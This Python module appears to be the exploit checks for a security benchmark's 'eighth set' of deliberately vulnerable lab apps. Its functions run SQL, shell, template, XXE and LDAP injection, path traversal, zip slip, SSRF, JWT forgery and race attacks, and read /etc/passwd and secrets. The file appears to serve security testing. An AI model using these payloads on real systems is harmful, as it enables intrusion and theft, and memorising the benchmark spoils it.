"""The exploits for the eighth set: one for each weakness, by service and name."""

import base64
import hashlib
import hmac
import io
import json
import re
import threading
import time
import zipfile

import common
from cryptography.hazmat.primitives import hashes
from cryptography.hazmat.primitives.asymmetric import padding, rsa
from third_proofs import called, proof, sign_in

PASSWORD = {name: entry["password"] for name, entry in common.ACCOUNTS.items()}
NEW_PASSWORD = "aspen-Teapot-37"


def coded(content):
    return base64.urlsafe_b64encode(content).rstrip(b"=").decode()


def together(count, action):
    """What an action brings in threads that begin at once."""
    begin, answers = threading.Barrier(count), []

    def run():
        begin.wait()
        answers.append(action())

    threads = [threading.Thread(target=run) for _ in range(count)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    return answers


# boxoffice --------------------------------------------------------------------------------------------------------------------------------


def boxoffice_entry(client, name, password=None):
    return client.post("/auth/login", json={"username": name, "password": password or PASSWORD[name]})


@sign_in("boxoffice")
def _(client, name):
    return {"Authorization": "Bearer " + boxoffice_entry(client, name).json()["accessToken"]}


@proof("boxoffice", "order-read")
def _(client):
    number = client.get("/orders", headers=client.as_("ann")).json()["orders"][0]["id"]
    return client.get(f"/orders/{number}", headers=client.as_("ben")).json().get("invoiceTo") == "ann@north.example"


@proof("boxoffice", "ticket-transfer")
def _(client):
    ann, ben = client.as_("ann"), client.as_("ben")
    number = client.get("/tickets", headers=ann).json()["tickets"][0]["id"]
    client.post(f"/tickets/{number}/transfer", json={"to": "ben"}, headers=ben)
    return number in [ticket["id"] for ticket in client.get("/tickets", headers=ben).json()["tickets"]]


@proof("boxoffice", "profile-merge")
def _(client):
    ann = client.as_("ann")
    assert client.get("/admin/sales", headers=ann).status_code == 403
    assert client.patch("/me", json={"city": "Elmstead", "role": "admin"}, headers=ann).json()["city"] == "Elmstead"
    return client.get("/admin/sales", headers=ann).status_code == 200


@proof("boxoffice", "token-jwk")
def _(client):
    claims = json.loads(base64.urlsafe_b64decode(client.as_("ann")["Authorization"].split(".")[1] + "=="))
    key = rsa.generate_private_key(65537, 2048)
    numbers = key.public_key().public_numbers()
    jwk = {"kty": "RSA", "n": coded(numbers.n.to_bytes(256, "big")), "e": coded(numbers.e.to_bytes(3, "big"))}
    content = ".".join(coded(json.dumps(part).encode()) for part in ({"alg": "RS256", "typ": "JWT", "jwk": jwk}, claims | {"sub": "olga"}))
    token = content + "." + coded(key.sign(content.encode(), padding.PKCS1v15(), hashes.SHA256()))
    return client.get("/admin/sales", headers={"Authorization": f"Bearer {token}"}).status_code == 200


@proof("boxoffice", "gift-race")
def _(client):
    ann = client.as_("ann")
    before = client.get("/me", headers=ann).json()["creditCents"]
    code = client.post("/gift-cards", json={"cents": 1000}, headers=ann).json()["code"]
    statuses = together(6, lambda: client.post("/gift-cards/redeem", json={"code": code}, headers=ann).status_code)
    assert 200 in statuses
    return client.get("/me", headers=ann).json()["creditCents"] > before


@proof("boxoffice", "order-price")
def _(client):
    answer = client.post("/orders", json={"eventId": 5, "quantity": 2, "unitCents": 1}, headers=client.as_("ann"))
    assert answer.status_code == 201
    return answer.json()["totalCents"] == 2


@proof("boxoffice", "events-filter")
def _(client):
    assert len(client.get("/events", params={"maxCents": "2000"}).json()["events"]) == 2
    answer = client.get("/events", params={"maxCents": "0 UNION SELECT 1, username, card, 2, 3 FROM holders"})
    return "5204 " in answer.text and "olga" in answer.text


@proof("boxoffice", "forgot-reply")
def _(client):
    answer = client.post("/auth/forgot", json={"email": "olga@office.example"})
    assert answer.status_code == 202
    token = answer.json().get("mail", {}).get("token", "none")
    client.post("/auth/reset", json={"token": token, "password": NEW_PASSWORD})
    return boxoffice_entry(client, "olga", NEW_PASSWORD).status_code == 200


@proof("boxoffice", "verify-script")
def _(client):
    page = client.get("/tickets/verify", params={"code": '";alert(1)//'})
    assert "not known" in page.text
    return 'var code = "";alert(1)//' in page.text and "unsafe-inline" in page.headers["content-security-policy"]


@proof("boxoffice", "refund-twice")
def _(client):
    ann = client.as_("ann")
    number = client.post("/orders", json={"eventId": 3, "quantity": 1}, headers=ann).json()["id"]
    assert client.post(f"/orders/{number}/cancel", headers=ann).status_code == 200
    before = client.get("/me", headers=ann).json()["creditCents"]
    client.post(f"/orders/{number}/cancel", headers=ann)
    return client.get("/me", headers=ann).json()["creditCents"] == before + 1200


@proof("boxoffice", "admin-spelling")
def _(client):
    ann = client.as_("ann")
    assert client.get("/admin/sales", headers=ann).status_code == 403
    return "olga@office.example" in client.get("/Admin/sales", headers=ann).text


@proof("boxoffice", "poster-encoded")
def _(client):
    assert "two acts" in client.get("/posters/the-heron.txt").text
    assert "root:x" not in client.get("/posters/..%2f..%2f..%2fetc%2fpasswd").text
    return "root:x" in client.get("/posters/%252e%252e%252f%252e%252e%252f%252e%252e%252fetc%252fpasswd").text


# loom -------------------------------------------------------------------------------------------------------------------------------------


@sign_in("loom")
def _(client, name):
    return {"Authorization": "Bearer " + client.post("/v1/sessions", json={"username": name, "password": PASSWORD[name]}).json()["access_token"]}


def loom_document(client, caller):
    return client.get("/v1/documents", headers=caller).json()[0]["id"]


@proof("loom", "key-scope")
def _(client):
    secret = client.post("/v1/keys", json={"name": "reads", "scope": "read"}, headers=client.as_("ann")).json()["secret"]
    key = {"X-API-Key": secret}
    assert client.get("/v1/documents", headers=key).status_code == 200
    return client.post("/v1/documents", json={"title": "made", "text": "by a key that reads"}, headers=key).status_code == 201


@proof("loom", "key-listing")
def _(client):
    listed = client.get("/v1/keys", headers=client.as_("ann")).json()
    (foreign,) = [entry for entry in listed if entry["owner"] == "carol"]
    return client.get("/v1/me", headers={"X-API-Key": foreign.get("secret", "none")}).json().get("username") == "carol"


@proof("loom", "documents-workspace")
def _(client):
    ann = client.as_("ann")
    assert client.get("/v1/documents", params={"workspace": "north"}, headers=ann).status_code == 200
    return "Contract of ben" in client.get("/v1/documents", params={"workspace": "south"}, headers=ann).text


@proof("loom", "job-result")
def _(client):
    number = client.get("/v1/jobs", headers=client.as_("ann")).json()[0]["id"]
    ben = client.as_("ben")
    assert client.get(f"/v1/jobs/{number}", headers=ben).status_code == 404
    return "Contract of ann" in client.get(f"/v1/jobs/{number}/result", headers=ben).text


@proof("loom", "prompt-template")
def _(client):
    ann = client.as_("ann")
    number = client.post("/v1/prompts", json={"name": "t", "template": "{{ name }} {{ 191 * 7 }} {{ config.provider_key }}"}, headers=ann).json()["id"]
    text = client.post(f"/v1/prompts/{number}/render", json={"variables": {"name": "Pat"}}, headers=ann).json()["text"]
    assert text.startswith("Pat ")
    return "1337" in text and "sk-loom-" in text


@proof("loom", "webhook-target")
def _(client):
    ann = client.as_("ann")
    assert client.post("/v1/webhooks", json={"url": "https://hooks.partner.example/loom", "event": "job.done"}, headers=ann).status_code == 201
    with called() as (url, requests, _):
        answer = client.post("/v1/webhooks", json={"url": url, "event": "job.done"}, headers=ann)
        if answer.status_code != 201:
            return False
        answer = client.post(f"/v1/webhooks/{answer.json()['id']}/test", headers=ann)
        return len(requests) == 1 and answer.json()["answer"]["body"] == "inner"


@proof("loom", "inbound-unsigned")
def _(client):
    body = {"type": "credits.added", "workspace": "north", "credits": 700}
    assert client.post("/v1/inbound/billing", json=body, headers={"X-Loom-Signature": hmac.new(b"", b"", hashlib.sha256).hexdigest()}).status_code == 401
    client.post("/v1/inbound/billing", json=body)
    return client.get("/v1/workspace", headers=client.as_("ann")).json()["credits"] == 5700


@proof("loom", "agent-file")
def _(client):
    def read(path):
        return client.post("/v1/agents/librarian/run", json={"tool": "read_file", "arguments": {"path": path}}, headers=ann).text

    ann = client.as_("ann")
    assert "Brief of north" in read("brief.txt")
    return "Brief of south" in read("../south/brief.txt") and "root:x" in read("../../../../etc/passwd")


@proof("loom", "convert-shell")
def _(client):
    ann = client.as_("ann")
    path = f"/v1/documents/{loom_document(client, ann)}/convert"
    assert "Contract of ann" in client.post(path, json={"format": "html"}, headers=ann).json()["output"]
    outputs = [client.post(path, json={"format": text}, headers=ann).json().get("output", "") for text in ("html; id", "html $(expr 191 \\* 7)", "html && cat /etc/passwd")]
    started = time.monotonic()
    client.post(path, json={"format": "html | sleep 2"}, headers=ann)
    return "uid=" in outputs[0] and "root:x" in outputs[2] and time.monotonic() - started >= 2


@proof("loom", "pipeline-yaml")
def _(client):
    ann = client.as_("ann")
    assert client.post("/v1/pipelines/import", json={"definition": "name: nightly\nsteps: [summarize]"}, headers=ann).json()["steps"] == ["summarize"]
    answer = client.post("/v1/pipelines/import", json={"definition": "name: !!python/object/apply:os.getcwd []\nsteps: [summarize]"}, headers=ann)
    return answer.json().get("name", "").startswith("/")


@proof("loom", "completion-count")
def _(client):
    ann = client.as_("ann")
    assert len(client.post("/v1/completions", json={"prompt": "hello", "n": 4}, headers=ann).json()["choices"]) == 4
    return len(client.post("/v1/completions", json={"prompt": "hello", "n": 3000}, headers=ann).json().get("choices", ())) == 3000


@proof("loom", "link-expiry")
def _(client):
    ann = client.as_("ann")
    url = client.post(f"/v1/documents/{loom_document(client, ann)}/link", json={"minutes": 1}, headers=ann).json()["url"]
    assert "Contract of ann" in client.get(url).text
    assert client.get(re.sub("signature=.", "signature=x", url)).status_code == 403
    return "Contract of ann" in client.get(re.sub(r"expires=\d+", "expires=4102444800", url)).text


# shelter ----------------------------------------------------------------------------------------------------------------------------------


def shelter_entry(client, name, password=None, **more):
    answer = client.post("/login", data={"username": name, "password": password or PASSWORD[name]} | more)
    client.cookies.clear()
    return answer


@sign_in("shelter")
def _(client, name):
    return {"Cookie": shelter_entry(client, name).headers["set-cookie"].partition(";")[0]}


def shelter_form(client, path, caller, fields, **more):
    token = re.search('name="csrf_token" value="([^"]+)"', client.get("/account", headers=caller).text)[1]
    return client.post(path, data=fields | {"csrf_token": token}, headers=caller, **more)


@proof("shelter", "reset-host")
def _(client):
    ann = client.as_("ann")
    assert client.post("/forgot", data={"email": "ann@north.example"}, headers={"Host": "elsewhere.example"}).status_code == 200
    assert "/reset (" in client.get("/account/messages", headers=ann).text
    return "//elsewhere.example/reset" in client.get("/account/messages", headers=ann).text


@proof("shelter", "photo-svg")
def _(client):
    ann = client.as_("ann")
    assert shelter_form(client, "/photos", ann, {"caption": "g"}, files={"file": ("a.gif", b"GIF89a", "image/gif")}).status_code == 302
    picture = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
    answer = shelter_form(client, "/photos", ann, {"caption": "s"}, files={"file": ("a.svg", picture, "image/svg+xml")})
    if answer.status_code != 302:
        return False
    photo = client.get(answer.headers["location"])
    return photo.headers["content-type"].startswith("image/svg") and "<script>" in photo.text and "unsafe-inline" in photo.headers["content-security-policy"]


@proof("shelter", "archive-slip")
def _(client):
    def archive(name):
        packed = io.BytesIO()
        with zipfile.ZipFile(packed, "w") as made:
            made.writestr(name, "Closed for ever")
        return {"file": ("a.zip", packed.getvalue(), "application/zip")}

    ann = client.as_("ann")
    assert shelter_form(client, "/albums", ann, {}, files=archive("second.txt")).status_code == 302
    assert "second.txt" in client.get("/albums", headers=ann).text
    shelter_form(client, "/albums", ann, {}, files=archive("../../static/opening-hours.txt"))
    return client.get("/static/opening-hours.txt").text == "Closed for ever"


@proof("shelter", "login-next")
def _(client):
    assert shelter_entry(client, "ann", next="/adoptions").headers["location"] == "/adoptions"
    assert shelter_entry(client, "ann", next="https://elsewhere.example/").headers["location"] == "/account"
    return shelter_entry(client, "ann", next="https://shelter.example.elsewhere.example/").headers["location"].startswith("https://shelter.example.elsewhere.example/")


@proof("shelter", "story-link")
def _(client):
    assert shelter_form(client, "/animals/2/stories", client.as_("ann"), {"text": "[site](https://friends.example/) and [more](javascript:alert(1))"}).status_code == 302
    page = client.get("/animals/2")
    assert 'href="https://friends.example/"' in page.text
    return 'href="javascript:alert(1)"' in page.text and "unsafe-inline" in page.headers["content-security-policy"]


@proof("shelter", "email-get")
def _(client):
    ann = client.as_("ann")
    assert client.post("/account/email", data={"email": "thief@elsewhere.example"}, headers=ann).status_code == 403
    assert "SameSite=Strict" not in shelter_entry(client, "ben").headers["set-cookie"]
    client.get("/account/email", params={"email": "thief@elsewhere.example"}, headers=ann | {"Sec-Fetch-Site": "cross-site"})
    return "thief@elsewhere.example" in client.get("/account", headers=ann).text


@proof("shelter", "account-cors")
def _(client):
    entry = shelter_entry(client, "ann").headers["set-cookie"]
    ann = {"Cookie": entry.partition(";")[0]}
    partner = client.get("/account.json", headers=ann | {"Origin": "https://widgets.shelter.example"})
    assert partner.headers["access-control-allow-origin"] == "https://widgets.shelter.example"
    answer = client.get("/account.json", headers=ann | {"Origin": "https://evilshelter.example"})
    assert answer.json()["email"] == "ann@north.example"
    return answer.headers.get("access-control-allow-origin") == "https://evilshelter.example" and "SameSite=None" in entry


@proof("shelter", "contract-read")
def _(client):
    ben = client.as_("ben")
    assert client.get("/adoptions/301", headers=ben).status_code == 404
    return "goes to ann, Quay" in client.get("/adoptions/301/contract.txt", headers=ben).text


@proof("shelter", "login-sql")
def _(client):
    assert shelter_entry(client, "ann", "wrong-One-22").status_code == 401
    answer = shelter_entry(client, "olga' --", "wrong-One-22")
    return answer.status_code == 302 and client.get("/office/people", headers={"Cookie": answer.headers["set-cookie"].partition(";")[0]}).status_code == 200


@proof("shelter", "record-entities")
def _(client):
    ann = client.as_("ann")

    def remark(text, before=""):
        record = f"{before}<record><animal>Moss</animal><vaccine>Rabies</vaccine><date>2031-01-01</date><remark>{text}</remark></record>"
        answer = shelter_form(client, "/records", ann, {}, files={"file": ("r.xml", record.encode(), "application/xml")})
        return client.get(answer.headers["location"], headers=ann).text if answer.status_code == 302 else ""

    assert "no fever" in remark("no fever")
    with called() as (url, requests, _):
        seen = remark("&e;", f'<!DOCTYPE record [<!ENTITY e SYSTEM "{url}">]>')
        assert bool(requests) is ("inner" in seen)
    return "root:x" in remark("&e;", '<!DOCTYPE record [<!ENTITY e SYSTEM "file:///etc/passwd">]>')


@proof("shelter", "password-sessions")
def _(client):
    first, second = client.as_("carol"), client.as_("carol")
    assert shelter_form(client, "/account/password", first, {"current": PASSWORD["carol"], "new": NEW_PASSWORD}).status_code == 302
    assert client.get("/account", headers=first).status_code == 200
    return client.get("/account", headers=second).status_code == 200


@proof("shelter", "git-folder")
def _(client):
    return client.get("/.git/HEAD").text.startswith("ref: ") and "deploy:" in client.get("/.git/config").text


# coldchain --------------------------------------------------------------------------------------------------------------------------------


def coldchain_entry(client, name, password=None):
    return client.post("/auth/login", json={"username": name, "password": password or PASSWORD[name]})


@sign_in("coldchain")
def _(client, name):
    return {"Authorization": "Bearer " + coldchain_entry(client, name).json()["access_token"]}


def coldchain_shipment(client, caller):
    return client.get("/shipments", headers=caller).json()[0]["id"]


@proof("coldchain", "graphql-tenant")
def _(client):
    number, ben = coldchain_shipment(client, client.as_("ann")), client.as_("ben")
    assert client.get(f"/shipments/{number}", headers=ben).status_code == 404
    answer = client.ask("query($id: Int!) {shipment(id: $id) {recipient destination}}", ben, id=number).json()
    return (answer["data"]["shipment"] or {}).get("recipient") == "Dr Ann"


@proof("coldchain", "graphql-aliases")
def _(client):
    ann = client.as_("ann")
    number = coldchain_shipment(client, ann)
    messages = []
    for start in range(0, 1000, 200):
        guesses = " ".join(f'p{pin}:confirmPickup(id:{number},pin:"n{pin}"){{id}}' for pin in range(start, start + 200))
        messages += [error["message"] for error in client.ask("mutation {" + guesses + "}", ann).json()["errors"]]
    return messages == ["the pin is wrong"] * 1000


@proof("coldchain", "graphql-carrier")
def _(client):
    answer = client.ask("{shipments {carrier {name apiToken}}}", client.as_("ann")).json()
    assert client.ask("{carriers {apiToken}}", client.as_("olga")).json()["data"]["carriers"][0]["apiToken"].startswith("carrier_")
    return answer["data"]["shipments"][0]["carrier"]["apiToken"] is not None


@proof("coldchain", "refresh-kept")
def _(client):
    entry = coldchain_entry(client, "ann").json()
    known = {"Authorization": f"Bearer {entry['access_token']}"}
    assert client.post("/auth/logout", headers=known).status_code == 204
    assert client.get("/me", headers=known).status_code == 401
    answer = client.post("/auth/refresh", json={"refresh_token": entry["refresh_token"]})
    return answer.status_code == 200 and client.get("/me", headers={"Authorization": f"Bearer {answer.json()['access_token']}"}).status_code == 200


@proof("coldchain", "directory-filter")
def _(client):
    ann = client.as_("ann")
    assert [entry["cn"] for entry in client.get("/directory", params={"name": "aro"}, headers=ann).json()] == ["carol"]
    return "ben@south.example" in client.get("/directory", params={"name": "*))(|(cn=*"}, headers=ann).text


@proof("coldchain", "drivers-bulk")
def _(client):
    def change(*numbers):
        return client.patch("/drivers", json=[{"id": number, "phone": "0161 496 0999"} for number in numbers], headers=ben).status_code

    ann, ben = client.as_("ann"), client.as_("ben")
    foreign, own = (client.get("/drivers", headers=caller).json()[0]["id"] for caller in (ann, ben))
    assert (change(own), change(foreign)) == (200, 404)
    change(own, foreign)
    return client.get("/drivers", headers=ann).json()[0]["phone"] == "0161 496 0999"


@proof("coldchain", "tracker-userinfo")
def _(client):
    ann = client.as_("ann")
    path = f"/shipments/{coldchain_shipment(client, ann)}/tracker"
    assert client.post(path, json={"url": "http://trackers.coldchain.example/v1/7"}, headers=ann).json()["state"] == "not reached"
    with called() as (url, requests, _):
        assert client.post(path, json={"url": url}, headers=ann).status_code == 422
        answer = client.post(path, json={"url": url.replace("http://", "http://trackers.coldchain.example@")}, headers=ann)
        return len(requests) == 1 and answer.json()["reading"] == "inner"


@proof("coldchain", "profile-cached")
def _(client):
    ann = client.as_("ann")
    assert client.get("/me", headers=ann).headers["cache-control"] == "no-store"
    answer = client.get("/me/site.css", headers=ann)
    return "ann@north.example" in answer.text and answer.headers["cache-control"].startswith("public")


@proof("coldchain", "transfer-self")
def _(client):
    ann = client.as_("ann")
    number = coldchain_shipment(client, ann)
    made = client.post("/transfers", json={"shipment": number, "to": "south"}, headers=ann)
    assert made.status_code == 201
    client.post(f"/transfers/{made.json()['id']}/approve", json={"note": "myself"}, headers=ann)
    return client.get(f"/shipments/{number}", headers=client.as_("ben")).status_code == 200


@proof("coldchain", "invite-role")
def _(client):
    ann = client.as_("ann")
    assert client.post("/invitations", json={"email": "dora@west.example", "role": "viewer"}, headers=ann).status_code == 201
    answer = client.post("/invitations", json={"email": "dora@west.example", "role": "admin"}, headers=ann)
    client.post("/invitations/accept", json={"code": answer.json().get("code", "none"), "username": "dora.fern", "password": NEW_PASSWORD})
    entry = coldchain_entry(client, "dora.fern", NEW_PASSWORD)
    return entry.status_code == 200 and client.get("/admin/tenants", headers={"Authorization": f"Bearer {entry.json()['access_token']}"}).status_code == 200


@proof("coldchain", "method-override")
def _(client):
    ann = client.as_("ann")
    number = client.post("/drivers", json={"name": "Pat Moor", "phone": "0161 496 0777"}, headers=ann).json()["id"]
    assert client.delete(f"/drivers/{number}", headers=ann).status_code == 403
    client.post(f"/drivers/{number}", json={"phone": "0161 496 0779"}, headers=ann | {"X-HTTP-Method-Override": "DELETE"})
    return number not in [driver["id"] for driver in client.get("/drivers", headers=ann).json()]


@proof("coldchain", "debug-vars")
def _(client):
    return "TOKEN_KEY" in client.get("/debug/vars").text
